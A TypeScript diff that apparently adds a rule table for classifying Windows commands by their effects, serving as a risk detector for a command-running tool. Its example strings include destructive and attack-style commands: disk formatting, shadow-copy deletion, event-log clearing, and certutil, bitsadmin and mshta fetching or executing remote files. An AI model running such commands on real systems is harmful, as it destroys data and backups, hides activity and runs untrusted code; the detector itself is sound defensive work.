@@ -1,0 +1,16 @@
+import type { Row } from '../command/row.js';
+
+/** Programs of Windows, whose switches begin with a slash and so are operands here. */
+export const WINDOWS: readonly Row[] = [
+  { program: 'format | format.com', operands: 'text', effects: [{ kind: 'destroy', resource: 'disk', when: { operand: /^[A-Za-z]:[\\/]?$/ } }], examples: [['format c: /q', 'destroy disk:c: /q'], ['format src']] },
+  { program: 'vssadmin | wbadmin | wmic', operands: 'text', effects: [{ kind: 'destroy', resource: 'machine', name: 'backups', when: { operand: /^delete$/i } }, { kind: 'execute', resource: 'hidden-command', name: 'wmic', when: { operand: /^create$/i } }], examples: [['vssadmin delete shadows /all', 'destroy machine:backups'], ['wmic os get version']] },
+  { program: 'cipher', operands: 'text', effects: [{ kind: 'destroy', resource: 'machine', name: 'free space', when: { operand: /^\/w/i } }], examples: [['cipher /w:C', 'destroy machine:free space']] },
+  { program: 'reg | regedit', operands: 'text', effects: [{ kind: 'change-service', resource: 'machine', name: 'registry', when: { operand: /^(?:add|delete|import|restore|unload|\/s)$/i } }, { kind: 'persist', resource: 'schedule', name: 'run key', when: { operand: /Run(?:Once)?$/ } }], examples: [['reg delete HKLM/x /f', 'change-service machine:registry'], ['reg query HKLM/x']] },
+  { program: 'sc | sc.exe', operands: 'text', effects: [{ kind: 'change-service', resource: 'service', when: { operand: /^(?:delete|stop|create|config)$/i } }], examples: [['sc stop x', 'change-service service:stop x'], ['sc query x']] },
+  { program: 'net | net1', operands: 'text', effects: [{ kind: 'change-permission', resource: 'account', when: { operand: /^\/(?:add|delete|del)$/i } }, { kind: 'change-service', resource: 'service', when: { operand: /^stop$/i } }], examples: [['net user x /add', 'change-permission account'], ['net stop x', 'change-service service'], ['net user']] },
+  { program: 'taskkill', operands: 'text', effects: [{ kind: 'signal', resource: 'process', when: { operand: /^\/(?:im|fi)$/i } }], examples: [['taskkill /f /im node.exe', 'signal process'], ['taskkill /pid 12 /f']] },
+  { program: 'wevtutil', operands: 'text', effects: [{ kind: 'discard', resource: 'machine', name: 'log', when: { operand: /^(?:cl|clear-log)$/i } }], examples: [['wevtutil cl System', 'discard machine:log']] },
+  { program: 'certutil', operands: 'use', dashed: true, variants: [{ when: { any: ['-urlcache'] }, operands: { each: 'url', last: 'write' } }], examples: [['certutil -urlcache -f https://x.test/a a.exe', 'fetch host', 'write /home/u/proj/a.exe']] },
+  { program: 'bitsadmin', operands: { each: 'text', last: 'write' }, effects: [{ kind: 'fetch', resource: 'host' }], examples: [['bitsadmin /transfer j https://x.test/a a.exe', 'write /home/u/proj/a.exe']] },
+  { program: 'mshta | regsvr32 | rundll32 | msiexec | cscript | wscript | installutil', operands: 'use', effects: [{ kind: 'execute', resource: 'host', when: { operand: /https?:|^javascript:|^vbscript:/i } }], examples: [['mshta https://x.test/a.hta', 'execute host']] },
+];
